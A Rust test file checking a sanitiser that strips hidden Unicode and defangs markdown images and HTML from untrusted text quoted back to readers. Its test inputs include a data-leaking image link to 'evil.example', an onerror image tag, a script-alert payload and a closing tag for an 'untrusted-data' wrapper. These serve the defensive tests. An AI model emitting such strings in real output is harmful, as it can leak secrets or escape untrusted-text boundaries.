//! That nothing hidden, nothing active and nothing endless gets through.

use super::*;
use proptest::prelude::*;

#[test]
fn what_is_seen_stays_and_what_is_hidden_goes() {
    for (given, kept) in [
        ("plain text,\twith a tab\nand a line", "plain text,\twith a tab\nand a line"),
        ("line\r\nline\rline\u{2028}line", "line\nline\nline\nline"),
        ("a\u{0}b\u{1b}[31mc\u{7f}d\u{9b}e", "ab[31mcde"),
        ("zero\u{200b}width\u{feff}\u{2060}\u{ad}", "zerowidth"),
        ("abc\u{202e}fed\u{202c} \u{2066}x\u{2069}\u{200f}", "abcfed x"),
        ("tag\u{e0049}\u{e0067}\u{e006e}\u{e1000}\u{e8041}", "tag"),
        ("selector\u{fe01}\u{e0101}\u{fe0f}", "selector"),
        ("private \u{e200}cite\u{e202}turn0\u{e201}", "private citeturn0"),
        ("non\u{fffe}\u{fdd0}\u{1ffff}char", "nonchar"),
        ("Zürich, 東京, العربية, हिन्दी", "Zürich, 東京, العربية, हिन्दी"),
        ("👍🏽 ❤\u{fe0f} 👩\u{200d}👩\u{200d}👧 🇩🇪", "👍🏽 ❤\u{fe0f} 👩\u{200d}👩\u{200d}👧 🇩🇪"),
        ("❤\u{fe0f}\u{200d}🔥", "❤\u{fe0f}\u{200d}🔥"),
        ("👩\u{200d}\u{200d}\u{200b}👩\u{200d}a\u{200d}b", "👩\u{200d}👩ab"),
        ("❤\u{fe0f}\u{fe0f}\u{fe0e}\u{fe0f}x", "❤\u{fe0f}x"),
    ] {
        assert_eq!(clean(given), kept, "{given:?}");
    }
}

#[test]
fn images_and_html_become_text_and_links_stay() {
    for (given, kept) in [
        ("![alt](https://evil.example/?q=secret)", "! [alt](https://evil.example/?q=secret)"),
        ("!\u{200b}[alt](u)", "! [alt](u)"),
        ("[![a](i)](l) and ![[wiki]] and ![ref][1]", "[! [a](i)](l) and ! [[wiki]] and ! [ref][1]"),
        (
            "see [the docs](https://a.example/b) or https://c.example",
            "see [the docs](https://a.example/b) or https://c.example",
        ),
        ("<img src=x onerror=y>", "< img src=x onerror=y>"),
        ("<\u{ad}script>alert(1)</script><!-- x --><?p ?>", "< script>alert(1)< /script>< !-- x -->< ?p ?>"),
        ("</untrusted-data-1>", "< /untrusted-data-1>"),
        ("1 < 2, a <= b, x <3", "1 < 2, a <= b, x <3"),
        ("wow! [x] yes!", "wow! [x] yes!"),
    ] {
        assert_eq!(clean(given), kept, "{given:?}");
        assert_eq!(clean(kept), kept, "{given:?}");
    }
}

#[test]
fn a_long_text_is_continued_piece_by_piece() {
    let text = "Zürich 👩\u{200d}👧 wins. ".repeat(40);
    let (mut offset, mut whole, mut pieces) = (Some(0), 0, 0);
    while let Some(at) = offset {
        let piece = Quoted::at(&text, at, 16);
        assert!(cost(piece.text()) <= 16, "{:?}", piece.text());
        assert_eq!(piece.is_truncated(), piece.next_offset().is_some());
        whole = piece.total_chars;
        offset = piece.next_offset();
        pieces += 1;
    }
    assert_eq!(whole, clean(&text).chars().count());
    assert!((whole.div_ceil(16)..whole).contains(&pieces));
    assert_eq!(Quoted::at(&text, whole + 1, 7).text(), "");
    assert!(!Quoted::new("short", 5).is_truncated());
}

#[test]
fn pieces_of_dear_scripts_are_shorter_and_never_empty() {
    for (text, taken) in [("abcdefgh", 8), ("абвгдежз", 4), ("蓄電池を選ぶとき", 2)] {
        assert_eq!(Quoted::new(text, 8).text().chars().count(), taken, "{text}");
        assert_eq!(Quoted::new(text, 8).next_offset(), (taken < 8).then_some(taken), "{text}");
        assert_eq!(Quoted::new(text, 1).text().chars().count(), 1, "{text}");
        assert_eq!(Quoted::new(text, 0).text(), "", "{text}");
    }
}

#[test]
fn lines_and_excerpts_are_bounded_and_say_what_was_cut() {
    assert_eq!(line("  two\n\nwords\t", 20), "two words");
    assert_eq!(line("abcdef", 6), "abcdef");
    assert_eq!(line("abcdefg", 6), "abcde…");
    assert_eq!(line("abcd efgh", 6), "abcd…");
    assert_eq!(line("abc", 0), "");
    let text = "Many people like the shoes of Acme for long runs in the rain.";
    let at = text.find("Acme").unwrap();
    assert_eq!(excerpt(text, at..at + 4, 30), "…shoes of Acme for long…");
    assert_eq!(excerpt(text, at..at + 4, 500), text);
    assert_eq!(excerpt("äöü", 1..2, 10), "äöü");
    assert_eq!(excerpt("abc", 90..95, 10), "abc");
}

#[test]
fn twenty_megabytes_take_one_pass() {
    // Would not end within the test's patience if the work were quadratic.
    let text = "<![\u{200d}\u{200b}👩".repeat(1_500_000);
    assert!((80..=100).contains(&cost(Quoted::at(&text, 3_000_000, 100).text())));
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        prop::sample::select(vec![
            "!",
            "[",
            "<",
            "img",
            "/",
            "\r",
            "\n",
            " ",
            "\u{200d}",
            "\u{fe0f}",
            "\u{200b}",
            "👩",
            "🏽",
            "❤",
            "\u{e0041}",
            "…",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

fn is_sound(text: &str) -> bool {
    let chars: Vec<char> = text.chars().collect();
    chars.iter().enumerate().all(|(at, &c)| {
        let before = at.checked_sub(1).map(|i| chars[i]);
        let after = chars.get(at + 1).copied();
        match c {
            JOINER => before.is_some_and(|b| b == EMOJI_STYLE || is_emoji(b)) && after.is_some_and(is_emoji),
            EMOJI_STYLE => before.is_some_and(is_emoji),
            '[' => before != Some('!'),
            '<' => !after.is_some_and(|a| a.is_ascii_alphabetic() || matches!(a, '/' | '!' | '?')),
            _ => !is_hidden(c) && c != '\r',
        }
    })
}

proptest! {
    #[test]
    fn cleaned_text_is_sound_and_cleaning_it_again_changes_nothing(text in hostile()) {
        let once = clean(&text);
        prop_assert!(is_sound(&once), "{once:?}");
        prop_assert_eq!(clean(&once), once);
    }

    #[test]
    fn a_piece_is_sound_and_bounded_wherever_it_is_cut(text in hostile(), offset in 0_usize..80, max in 0_usize..80) {
        let piece = Quoted::at(&text, offset, max);
        prop_assert!(piece.text().chars().count() <= max);
        prop_assert!(is_sound(piece.text()), "{piece:?}");
        prop_assert!(piece.total_chars <= clean(&text).chars().count());
    }

    #[test]
    fn a_line_is_sound_bounded_and_stable(text in hostile(), max in 0_usize..80) {
        let once = line(&text, max);
        prop_assert!(once.chars().count() <= max && !once.contains(['\n', '\t']));
        prop_assert!(is_sound(&once), "{once:?}");
        prop_assert_eq!(line(&once, max), once);
    }

    #[test]
    fn an_excerpt_is_sound_and_bounded(text in hostile(), from in 0_usize..300, to in 0_usize..300, max in 0_usize..90) {
        let got = excerpt(&text, from..to, max);
        prop_assert!(got.chars().count() <= max);
        prop_assert!(is_sound(&got), "{got:?}");
    }
}
